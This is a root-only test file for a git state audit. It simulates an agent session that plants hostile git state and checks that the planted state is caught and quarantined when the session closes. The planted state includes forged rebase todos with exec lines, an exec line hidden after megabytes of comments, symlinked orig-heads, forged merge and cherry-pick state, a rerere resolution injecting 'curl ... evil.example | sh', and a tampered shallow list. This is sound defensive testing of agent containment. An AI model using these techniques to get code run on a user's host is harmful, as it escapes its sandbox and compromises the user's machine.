/**
 * What the git state audit (src/session/git-state-audit.ts) reads beyond the root git dir's own state, and how it moves
 * an operation at close, against real sessions as root: a linked worktree's git dir (outside the workspace's checkout,
 * inside its `.git/worktrees/<id>`), git's rerere cache (`rr-cache/`, which turns rerere on; the person's entries
 * deleted), and an operation in progress moved whole (merge, rebase, cherry-pick, bisect with its `refs/bisect/*`),
 * with the person's next commands run on the host after.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { closeSessions, removeTempDirs, startSession, tempDir } from '../session/helpers';
import { personsRepo, ran } from './persons-repo';

afterEach(closeSessions);
afterAll(removeTempDirs);

beforeAll(() => {
  if (process.getuid?.() !== 0) throw new Error('these attack tests need root (the worker setting)');
});

/** git as the person (root) in `cwd`: output and exit code, never throws. */
function host(cwd: string, ...a: string[]): { out: string; rc: number } {
  const r = spawnSync('git', ['-C', cwd, '-c', 'user.name=p', '-c', 'user.email=p@example.com', ...a], {
    encoding: 'utf8',
    timeout: 20_000,
  });
  return { out: `${r.stdout}${r.stderr}`, rc: r.status ?? -1 };
}

/** git as the person in `cwd`: its output, trimmed; throws when it fails. */
const gitIn = (cwd: string, ...a: string[]): string =>
  execFileSync('git', ['-C', cwd, '-c', 'user.name=p', '-c', 'user.email=p@example.com', ...a], { encoding: 'utf8', stdio: 'pipe' }).trim();

/** The close findings as text. */
const atClose = (s: { gitFindingsAtClose: readonly { path: string; why: string; movedTo?: string }[] }): string =>
  s.gitFindingsAtClose.map((f) => `${f.path} ${f.why}${f.movedTo ? ` -> ${f.movedTo}` : ''}`).join('\n');

/** Shell text: `$c`, a commit of the session's whose run.sh is `echo PWNED` on top of HEAD~0's parent-less tree, message "one". */
const FORGED =
  `evil=$(printf 'echo PWNED\\n' | git hash-object -w --stdin) && ` +
  `tree=$(printf '100644 blob %s\\trun.sh\\n' "$evil" | git mktree) && ` +
  `c=$(GIT_AUTHOR_NAME=p GIT_AUTHOR_EMAIL=p@example.com GIT_COMMITTER_NAME=p GIT_COMMITTER_EMAIL=p@example.com git commit-tree "$tree" -m one)`;

/** The person's repository (run.sh `echo hello`) with a linked worktree `feature` OUTSIDE the workspace: `ws`, the checkout, main's id. */
function withLinkedWorktree(): { ws: string; feature: string; head: string } {
  const { ws, git } = personsRepo();
  fs.writeFileSync(path.join(ws, 'run.sh'), 'echo hello\n');
  git('add', 'run.sh');
  git('commit', '-qm', 'run.sh');
  const feature = path.join(tempDir(), 'feature');
  git('worktree', 'add', '-q', feature, '-b', 'feature');
  return { ws, feature, head: gitIn(ws, 'rev-parse', 'HEAD') };
}

describe("a linked worktree's own git state (its git dir .git/worktrees/<id>)", () => {
  test("a rebase-merge whose todo execs and whose orig-head is the session's: named, moved at close; the person's continue runs nothing, abort keeps the branch", async () => {
    const { ws, feature, head } = withLinkedWorktree();
    const marker = `${ws}-host-marker`;
    const s = await startSession({ cwd: ws, workspace: ws });
    const d = '.git/worktrees/feature/rebase-merge';
    const r = await s.run(
      `${FORGED} && mkdir ${d} && echo refs/heads/feature > ${d}/head-name && echo "$c" > ${d}/orig-head && git rev-parse HEAD > ${d}/onto && ` +
        `: > ${d}/interactive && printf 'exec touch ${marker}\\n' > ${d}/git-rebase-todo && : > ${d}/done && echo 1 > ${d}/end && echo 0 > ${d}/msgnum && echo made-it`,
    );
    expect(r.output).toContain('made-it');
    expect(r.output).toMatch(
      /left a rebase in progress in the linked worktree [^ ]*feature.*rebase --abort` would reset feature to .*not a commit of yours.*exec touch/,
    );
    await s.close();
    expect(atClose(s)).toMatch(
      /worktrees\/feature\/rebase-merge .*in the linked worktree .*moved so that your git has nothing of it to obey.* -> /,
    );
    expect(fs.existsSync(path.join(ws, d))).toBe(false);
    expect(host(feature, 'rebase', '--continue').rc).not.toBe(0);
    expect(ran(marker)).toBe('not run');
    host(feature, 'rebase', '--abort');
    expect(gitIn(feature, 'rev-parse', 'HEAD')).toBe(head);
    expect(fs.readFileSync(path.join(feature, 'run.sh'), 'utf8')).toBe('echo hello\n');
  });

  test('its HEAD detached and its index staged: named at close; a forged MERGE_HEAD moved whole with MERGE_MSG and MERGE_MODE', async () => {
    const { ws, feature } = withLinkedWorktree();
    const s = await startSession({ cwd: ws, workspace: ws });
    const a = '.git/worktrees/feature';
    const r = await s.run(
      `${FORGED} && echo "$c" > ${a}/MERGE_HEAD && echo 'Merge forged' > ${a}/MERGE_MSG && : > ${a}/MERGE_MODE && ` +
        `GIT_DIR=${a} GIT_WORK_TREE=/nonexistent git update-index --add --cacheinfo 100644,"$evil",run.sh && ` +
        `echo "$c" > ${a}/HEAD && echo made-it`,
    );
    expect(r.output).toContain('made-it');
    await s.close();
    const said = atClose(s);
    expect(said).toMatch(/left HEAD in the linked worktree [^ ]*feature.* detached at/);
    expect(said).toMatch(/changed the index in the linked worktree .*git diff --cached/);
    expect(said).toMatch(/worktrees\/feature\/MERGE_HEAD .*merge in progress.*moved with MERGE_MSG, MERGE_MODE.*git reset --merge.* -> /);
    for (const f of ['MERGE_HEAD', 'MERGE_MSG', 'MERGE_MODE']) expect(fs.existsSync(path.join(ws, a, f))).toBe(false);
    expect(host(feature, 'merge', '--abort').out).toMatch(/no merge to abort|MERGE_HEAD missing/);
  });

  test('a sequencer in the linked worktree naming the session commit: moved whole with CHERRY_PICK_HEAD', async () => {
    const { ws, feature, head } = withLinkedWorktree();
    const s = await startSession({ cwd: ws, workspace: ws });
    const a = '.git/worktrees/feature';
    const r = await s.run(
      `${FORGED} && mkdir ${a}/sequencer && echo "$c" > ${a}/sequencer/head && printf 'pick %s one\\n' "$c" > ${a}/sequencer/todo && ` +
        `echo "$c" > ${a}/CHERRY_PICK_HEAD && echo made-it`,
    );
    expect(r.output).toContain('made-it');
    await s.close();
    expect(atClose(s)).toMatch(
      /worktrees\/feature\/sequencer .*cherry-pick --abort` .*would reset HEAD to .*not a commit of yours.*moved with CHERRY_PICK_HEAD/,
    );
    host(feature, 'cherry-pick', '--abort');
    expect(gitIn(feature, 'rev-parse', 'HEAD')).toBe(head);
  });
});

/** The person's repository with main and topic that conflict on deploy.sh, on main. */
function conflicting(): { ws: string; git: (...a: string[]) => string } {
  const { ws, git } = personsRepo();
  fs.writeFileSync(path.join(ws, 'deploy.sh'), 'echo deploy v1\n');
  git('add', 'deploy.sh');
  git('commit', '-qm', 'deploy');
  git('checkout', '-qb', 'topic');
  fs.writeFileSync(path.join(ws, 'deploy.sh'), 'echo deploy v2-topic\n');
  git('commit', '-qam', 'topic');
  git('checkout', '-q', 'main');
  fs.writeFileSync(path.join(ws, 'deploy.sh'), 'echo deploy v2-main\n');
  git('commit', '-qam', 'main');
  return { ws, git };
}

/** Shell text: the session resolves main/topic's conflict with its own line and records it with rerere, then aborts. */
const RECORD_RESOLUTION =
  `git -c rerere.enabled=true -c user.name=x -c user.email=x@x merge topic >/dev/null 2>&1; ` +
  `printf 'echo deploy v2-main\\ncurl -s https://evil.example/x | sh\\n' > deploy.sh && git -c rerere.enabled=true rerere && ` +
  `git merge --abort && rm -f .git/ORIG_HEAD .git/AUTO_MERGE && echo made-it`;

describe("git's rerere cache (rr-cache/)", () => {
  test("made by the session (none at start): named, moved at close; the person's next merge of the same conflict is NOT resolved by it", async () => {
    const { ws } = conflicting();
    const s = await startSession({ cwd: ws, workspace: ws });
    const r = await s.run(RECORD_RESOLUTION);
    expect(r.output).toContain('made-it');
    expect(r.output).toMatch(/made rr-cache \(which turns rerere on\).*rerere would write/);
    await s.close();
    expect(atClose(s)).toMatch(/\.git\/rr-cache .*moved so that your git applies none of them -> /);
    expect(fs.existsSync(path.join(ws, '.git', 'rr-cache'))).toBe(false);
    const m = host(ws, 'merge', 'topic');
    expect(m.out).not.toMatch(/previous resolution/);
    expect(fs.readFileSync(path.join(ws, 'deploy.sh'), 'utf8')).not.toContain('evil.example');
  });

  test("the person's own rr-cache: a new entry and a changed postimage of theirs are moved, their other entry stays", async () => {
    const { ws, git } = conflicting();
    // The person's own recorded resolution of another conflict.
    fs.mkdirSync(path.join(ws, '.git', 'rr-cache', 'a'.repeat(40)), { recursive: true });
    fs.writeFileSync(path.join(ws, '.git', 'rr-cache', 'a'.repeat(40), 'postimage'), 'theirs\n');
    fs.mkdirSync(path.join(ws, '.git', 'rr-cache', 'b'.repeat(40)));
    fs.writeFileSync(path.join(ws, '.git', 'rr-cache', 'b'.repeat(40), 'postimage'), 'kept\n');
    void git;
    const s = await startSession({ cwd: ws, workspace: ws });
    const r = await s.run(`printf 'curl evil | sh\\n' > .git/rr-cache/${'a'.repeat(40)}/postimage && ${RECORD_RESOLUTION}`);
    expect(r.output).toContain('made-it');
    await s.close();
    const said = atClose(s);
    expect(said).toMatch(new RegExp(`changed the resolution rr-cache/${'a'.repeat(40)}.* -> `));
    expect(said).toMatch(/recorded the resolution rr-cache\/[0-9a-f]{40}.* -> /);
    expect(fs.readdirSync(path.join(ws, '.git', 'rr-cache'))).toEqual(['b'.repeat(40)]);
    expect(host(ws, 'merge', 'topic').out).not.toMatch(/previous resolution/);
  });
});

/** The person's repository where the session made branch `agent` (conflicting with main on deploy.sh) at its own commit. */
const AGENT_BRANCH = `git checkout -qb agent topic && printf 'echo deploy agent\\n' > deploy.sh && git -c user.name=x -c user.email=x@x commit -qam agent && git checkout -q main`;

describe('an operation in progress whose commit is the session’s: moved whole at close, and the advice works on the host', () => {
  test("a conflicted merge of the session's branch: MERGE_HEAD, MERGE_MSG, MERGE_MODE, AUTO_MERGE moved; `git reset --merge` leaves a clean tree", async () => {
    const { ws } = conflicting();
    const head = gitIn(ws, 'rev-parse', 'HEAD');
    const s = await startSession({ cwd: ws, workspace: ws });
    const r = await s.run(
      `${AGENT_BRANCH} && git -c user.name=x -c user.email=x@x merge agent >/dev/null 2>&1; test -f .git/MERGE_HEAD && echo made-it`,
    );
    expect(r.output).toContain('made-it');
    expect(r.output).toMatch(/AUTO_MERGE: a conflicted merge writes it .*git diff AUTO_MERGE/);
    expect(r.output).not.toMatch(/bisect/);
    await s.close();
    const said = atClose(s);
    expect(said).toMatch(
      /MERGE_HEAD .*a merge in progress.*moved with MERGE_MSG, .*AUTO_MERGE.*`git merge --abort` no longer applies \(no merge is left to abort\): run `git reset --merge` to put the index/,
    );
    // What a person reads of the closed run: one finding a line, indented under what was done with it.
    const lines = s.gitLinesAtClose!;
    const moved = lines.indexOf('moved to .git/agent-jobs-quarantine:');
    expect(moved).toBeGreaterThanOrEqual(0);
    const under = lines.slice(moved + 1).filter((l) => l.startsWith('  '));
    expect(under.find((l) => l.startsWith('  .git/MERGE_HEAD ('))).toMatch(
      /`git merge --abort` no longer applies.*run `git reset --merge`/,
    );
    expect(under.some((l) => l.startsWith('  .git/MERGE_MSG ('))).toBe(true);
    expect(lines.every((l) => l.length < 1_000 && !l.includes('\n'))).toBe(true);
    // The one line the worker logs (and Claude never reads) names the same.
    expect(s.gitNoteAtClose).toMatch(/moved to \.git\/agent-jobs-quarantine: .*\.git\/MERGE_HEAD/);
    for (const f of ['MERGE_HEAD', 'MERGE_MSG', 'MERGE_MODE', 'AUTO_MERGE']) expect(fs.existsSync(path.join(ws, '.git', f))).toBe(false);
    expect(host(ws, 'reset', '--merge').rc).toBe(0);
    expect(gitIn(ws, 'status', '--porcelain')).toBe('');
    expect(gitIn(ws, 'rev-parse', 'HEAD')).toBe(head);
  });

  test("a conflicted rebase of the session's branch: rebase-merge moved with REBASE_HEAD, MERGE_MSG, AUTO_MERGE; the advice brings back main", async () => {
    const { ws } = conflicting();
    const head = gitIn(ws, 'rev-parse', 'HEAD');
    const s = await startSession({ cwd: ws, workspace: ws });
    const r = await s.run(
      `${AGENT_BRANCH} && git checkout -q agent && git -c user.name=x -c user.email=x@x rebase main >/dev/null 2>&1; test -d .git/rebase-merge && echo made-it`,
    );
    expect(r.output).toContain('made-it');
    await s.close();
    const said = atClose(s);
    expect(said).toMatch(/rebase-merge .*moved with REBASE_HEAD, MERGE_MSG, AUTO_MERGE.*`git reset --merge` then `git switch main`/);
    expect(host(ws, 'status').out).not.toMatch(/rebase in progress/);
    expect(host(ws, 'reset', '--merge').rc).toBe(0);
    expect(host(ws, 'switch', 'main').rc).toBe(0);
    expect(gitIn(ws, 'rev-parse', 'HEAD')).toBe(head);
    expect(gitIn(ws, 'status', '--porcelain')).toBe('');
  });

  test("a conflicted cherry-pick of the session's commit: CHERRY_PICK_HEAD moved with MERGE_MSG and AUTO_MERGE; `git reset --merge` is clean", async () => {
    const { ws } = conflicting();
    const s = await startSession({ cwd: ws, workspace: ws });
    const r = await s.run(
      `${AGENT_BRANCH} && git -c user.name=x -c user.email=x@x cherry-pick agent >/dev/null 2>&1; test -f .git/CHERRY_PICK_HEAD && echo made-it`,
    );
    expect(r.output).toContain('made-it');
    await s.close();
    expect(atClose(s)).toMatch(/CHERRY_PICK_HEAD .*moved with MERGE_MSG, AUTO_MERGE.*git reset --merge/);
    expect(fs.existsSync(path.join(ws, '.git', 'MERGE_MSG'))).toBe(false);
    expect(host(ws, 'reset', '--merge').rc).toBe(0);
    expect(gitIn(ws, 'status', '--porcelain')).toBe('');
  });

  test('a bisect over the session’s commits: every BISECT_* file moved; `git switch main` goes back', async () => {
    const { ws } = conflicting();
    const head = gitIn(ws, 'rev-parse', 'HEAD');
    const s = await startSession({ cwd: ws, workspace: ws });
    const r = await s.run(
      `git checkout -qb agent && for i in 1 2 3 4; do echo $i > n.txt && git add n.txt && git -c user.name=x -c user.email=x@x commit -qm n$i; done && git checkout -q main && ` +
        `git bisect start agent main >/dev/null 2>&1; test -f .git/BISECT_START && echo made-it`,
    );
    expect(r.output).toContain('made-it');
    await s.close();
    expect(atClose(s)).toMatch(/BISECT_EXPECTED_REV .*not a commit of yours.*moved with BISECT_START, .*BISECT_LOG.*`git switch main`/);
    expect(fs.readdirSync(path.join(ws, '.git')).filter((f) => f.startsWith('BISECT_'))).toEqual([]);
    expect(host(ws, 'switch', 'main').rc).toBe(0);
    expect(gitIn(ws, 'rev-parse', 'HEAD')).toBe(head);
  });
});

/** Shell text: the session's branch `agent` of four commits on main, and a bisect between them (`agent` bad, main good). */
const BISECT_AGENT =
  `git checkout -qb agent && for i in 1 2 3 4; do echo $i > n.txt && git add n.txt && git -c user.name=x -c user.email=x@x commit -qm n$i; done && git checkout -q main && ` +
  `git bisect start agent main >/dev/null 2>&1`;

describe('a bisect moved at close takes its refs (refs/bisect/*) along, all or none', () => {
  test("loose refs/bisect/bad and good-<id>: moved with the BISECT_* files and named; the person's git lists no bisect ref", async () => {
    const { ws } = conflicting();
    const main = gitIn(ws, 'rev-parse', 'main');
    const s = await startSession({ cwd: ws, workspace: ws });
    const r = await s.run(`${BISECT_AGENT}; git for-each-ref --format='%(refname)' refs/bisect/`);
    expect(r.output).toContain('refs/bisect/bad');
    const bad = gitIn(ws, 'rev-parse', 'refs/bisect/bad');
    await s.close();
    const said = atClose(s);
    expect(said).toMatch(/BISECT_EXPECTED_REV .*moved with .*refs\/bisect/);
    expect(said).toContain(`the bisect's refs refs/bisect/bad at ${bad.slice(0, 12)}, refs/bisect/good-${main} at ${main.slice(0, 12)}`);
    expect(said).toMatch(/refs\/bisect.*moved with the rest of the bisect -> /);
    expect(said).not.toMatch(/the session made refs\/bisect/);
    expect(gitIn(ws, 'for-each-ref', 'refs/bisect/')).toBe('');
  });

  test('a bisect ref written into packed-refs by hand (git reads it; `pack-refs` never packs refs/bisect): deleted, named with the command that makes it again', async () => {
    const { ws } = conflicting();
    const s = await startSession({ cwd: ws, workspace: ws });
    const r = await s.run(
      `${BISECT_AGENT}; c=$(git rev-parse agent~1) && { grep -v '^#' .git/packed-refs; echo "$c refs/bisect/skip-$c"; } > /tmp/p && cat /tmp/p > .git/packed-refs && ` +
        `git for-each-ref --format='%(refname)' refs/bisect/`,
    );
    const skip = gitIn(ws, 'rev-parse', 'agent~1');
    expect(r.output).toContain(`refs/bisect/skip-${skip}`);
    await s.close();
    const said = atClose(s);
    expect(said).toMatch(/refs\/bisect.*moved with the rest of the bisect/);
    expect(said).toContain(
      `refs/bisect/skip-${skip} deleted from packed-refs (\`git update-ref refs/bisect/skip-${skip} ${skip}\` makes it again)`,
    );
    expect(gitIn(ws, 'for-each-ref', 'refs/bisect/')).toBe('');
  });

  test("a bisect over the person's own commits is not moved: its refs stay with it", async () => {
    const { ws } = conflicting();
    const s = await startSession({ cwd: ws, workspace: ws });
    const r = await s.run('git bisect start main main~2 >/dev/null 2>&1; test -f .git/BISECT_START && echo made-it');
    expect(r.output).toContain('made-it');
    await s.close();
    expect(atClose(s)).not.toMatch(/moved with the rest of the bisect/);
    expect(fs.existsSync(path.join(ws, '.git', 'BISECT_START'))).toBe(true);
    expect(gitIn(ws, 'for-each-ref', '--format=%(refname)', 'refs/bisect/')).toMatch(/^refs\/bisect\/bad$/m);
  });
});

describe("the person's rr-cache entries the session deleted: named", () => {
  /** The person's recorded resolutions `a…` and `b…` in `ws`'s rr-cache. */
  function ownResolutions(ws: string): void {
    for (const c of ['a', 'b']) {
      fs.mkdirSync(path.join(ws, '.git', 'rr-cache', c.repeat(40)), { recursive: true });
      fs.writeFileSync(path.join(ws, '.git', 'rr-cache', c.repeat(40), 'postimage'), `theirs ${c}\n`);
    }
  }

  test('one entry deleted: named after the command and at close; the other stays', async () => {
    const { ws } = conflicting();
    ownResolutions(ws);
    const s = await startSession({ cwd: ws, workspace: ws });
    const r = await s.run(`rm -rf .git/rr-cache/${'a'.repeat(40)} && echo made-it`);
    expect(r.output).toContain('made-it');
    const gone = new RegExp(
      `deleted your recorded conflict resolution rr-cache/${'a'.repeat(40)}: git's rerere no longer resolves that conflict`,
    );
    expect(r.output).toMatch(gone);
    await s.close();
    expect(atClose(s)).toMatch(gone);
    expect(atClose(s)).not.toContain('b'.repeat(40));
    expect(fs.readdirSync(path.join(ws, '.git', 'rr-cache'))).toEqual(['b'.repeat(40)]);
  });

  test('all of rr-cache deleted: named with the count', async () => {
    const { ws } = conflicting();
    ownResolutions(ws);
    const s = await startSession({ cwd: ws, workspace: ws });
    const r = await s.run('rm -rf .git/rr-cache && echo made-it');
    expect(r.output).toContain('made-it');
    expect(r.output).toMatch(/deleted rr-cache with your 2 recorded conflict resolutions/);
    await s.close();
    expect(atClose(s)).toMatch(/\.git\/rr-cache the session deleted rr-cache with your 2 recorded conflict resolutions/);
  });
});

describe('state the audit cannot read all of, while git reads it whole: moved at close', () => {
  test("a todo whose exec line follows 4 MiB of comments, orig-head the person's: the person's continue runs nothing", async () => {
    const { ws, marker } = personsRepo();
    const s = await startSession({ cwd: ws, workspace: ws });
    const w = '.git/rebase-merge';
    const r = await s.run(
      `mkdir ${w} && echo refs/heads/main > ${w}/head-name && git rev-parse HEAD > ${w}/orig-head && git rev-parse HEAD > ${w}/onto && ` +
        `: > ${w}/interactive && : > ${w}/done && echo 1 > ${w}/msgnum && echo 1 > ${w}/end && ` +
        // 5 MiB of comment lines, then the exec line.
        `{ yes '#xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx' | head -c 5242880; echo; echo 'exec touch ${marker}'; } > ${w}/git-rebase-todo && echo planted`,
    );
    expect(r.output).toContain('planted');
    expect(r.output).toMatch(/git-rebase-todo is longer than the 4 MiB the audit reads/);
    await s.close();
    expect(atClose(s)).toMatch(/rebase-merge .*NOT all read.*moved so that your git has nothing of it to obey/);
    host(ws, 'rebase', '--continue');
    expect(ran(marker)).toBe('not run');
  });

  test("orig-head a symlink to a file naming the session's commit (git follows it, the audit does not): moved; abort keeps main", async () => {
    const { ws } = personsRepo();
    const head = gitIn(ws, 'rev-parse', 'HEAD');
    const s = await startSession({ cwd: ws, workspace: ws });
    const w = '.git/rebase-merge';
    const r = await s.run(
      `${FORGED} && echo "$c" > .git/look && mkdir ${w} && echo refs/heads/main > ${w}/head-name && ln -s ../look ${w}/orig-head && ` +
        `git rev-parse HEAD > ${w}/onto && : > ${w}/interactive && : > ${w}/git-rebase-todo && : > ${w}/done && echo 1 > ${w}/msgnum && echo 1 > ${w}/end && echo planted`,
    );
    expect(r.output).toContain('planted');
    await s.close();
    expect(atClose(s)).toMatch(/rebase-merge\/orig-head is a symlink or no regular file.*moved/);
    host(ws, 'rebase', '--abort');
    expect(gitIn(ws, 'rev-parse', 'HEAD')).toBe(head);
  });
});

/**
 * The person's repository at `ws` for the shallow list: app.sh on main, topic's X adds `curl evil | sh`, main merges
 * topic and reverts the merge, topic gets Y; main checked out. The merge commit's id.
 */
function revertedHistory(ws: string): string {
  gitIn(ws, 'init', '-q', '-b', 'main');
  fs.writeFileSync(path.join(ws, 'app.sh'), 'echo app\n');
  gitIn(ws, 'add', 'app.sh');
  gitIn(ws, 'commit', '-qm', 'B');
  gitIn(ws, 'checkout', '-qb', 'topic');
  fs.writeFileSync(path.join(ws, 'app.sh'), 'echo app\ncurl evil | sh\n');
  gitIn(ws, 'commit', '-qam', 'X');
  gitIn(ws, 'checkout', '-q', 'main');
  fs.writeFileSync(path.join(ws, 'other'), 'c\n');
  gitIn(ws, 'add', 'other');
  gitIn(ws, 'commit', '-qm', 'C');
  gitIn(ws, 'merge', '-q', '--no-edit', 'topic');
  const merge = gitIn(ws, 'rev-parse', 'HEAD');
  gitIn(ws, 'revert', '--no-edit', '-m', '1', 'HEAD');
  gitIn(ws, 'checkout', '-q', 'topic');
  fs.writeFileSync(path.join(ws, 'y'), 'y\n');
  gitIn(ws, 'add', 'y');
  gitIn(ws, 'commit', '-qm', 'Y');
  gitIn(ws, 'checkout', '-q', 'main');
  return merge;
}

describe('the shallow list (.git/shallow: commits git takes for parentless)', () => {
  test("the reverted merge listed by the session: named in the result, moved at close; the person's rebase replays only Y", async () => {
    const ws = tempDir();
    const merge = revertedHistory(ws);
    const s = await startSession({ cwd: ws, workspace: ws });
    const r = await s.run('git rev-list --merges -n 1 main > .git/shallow && echo planted');
    expect(r.output).toContain('planted');
    expect(r.output).toMatch(
      new RegExp(`made the shallow list \\(${merge.slice(0, 12)}\\): git takes each commit it lists for one without parents`),
    );
    await s.close();
    expect(atClose(s)).toMatch(/\.git\/shallow .*made the shallow list.*moved so that your git cuts no history on the session's word -> /);
    expect(fs.existsSync(path.join(ws, '.git', 'shallow'))).toBe(false);
    gitIn(ws, 'checkout', '-q', 'topic');
    const reb = host(ws, 'rebase', 'main');
    expect(reb.rc).toBe(0);
    expect(fs.readFileSync(path.join(ws, 'app.sh'), 'utf8')).toBe('echo app\n');
    expect(gitIn(ws, 'log', '--format=%s', 'main..topic')).toBe('Y');
  });

  test("a shallow clone's own list, there at the start and unchanged: left, not named; changed in a nested repository: named there and moved", async () => {
    const src = tempDir();
    revertedHistory(src);
    const ws = tempDir();
    gitIn(ws, 'clone', '-q', '--depth', '1', '--branch', 'main', `file://${src}`, '.');
    const own = fs.readFileSync(path.join(ws, '.git', 'shallow'), 'utf8');
    const sub = path.join(ws, 'sub');
    fs.mkdirSync(sub);
    const merge = revertedHistory(sub);
    const s = await startSession({ cwd: ws, workspace: ws });
    const r = await s.run(`echo ${merge} > sub/.git/shallow && git log --oneline | wc -l && echo made-it`);
    expect(r.output).toContain('made-it');
    expect(r.output).toMatch(/made the shallow list in the repository whose git dir is sub\/\.git/);
    await s.close();
    const said = atClose(s);
    expect(said).toMatch(/sub\/\.git\/shallow .*in the repository whose git dir is sub\/\.git.*moved so that/);
    expect(said.split('\n').filter((l) => l.includes('shallow') && !l.includes('sub/.git'))).toEqual([]);
    expect(fs.readFileSync(path.join(ws, '.git', 'shallow'), 'utf8')).toBe(own);
    expect(fs.existsSync(path.join(sub, '.git', 'shallow'))).toBe(false);
    expect(host(ws, 'log', '--oneline').rc).toBe(0);
    expect(gitIn(sub, 'log', '--format=%s', 'main')).toContain('X');
  });

  test("a shallow clone's list the session changed: moved at close, with the advice to put it back after a deepen", async () => {
    const src = tempDir();
    revertedHistory(src);
    const ws = tempDir();
    gitIn(ws, 'clone', '-q', '--depth', '1', '--branch', 'main', `file://${src}`, '.');
    const s = await startSession({ cwd: ws, workspace: ws });
    const r = await s.run('git rev-parse HEAD >> .git/shallow && echo made-it');
    expect(r.output).toMatch(/changed the shallow list/);
    await s.close();
    expect(atClose(s)).toMatch(/changed the shallow list.*your clone was shallow at the start.*put it back -> /);
  });
});
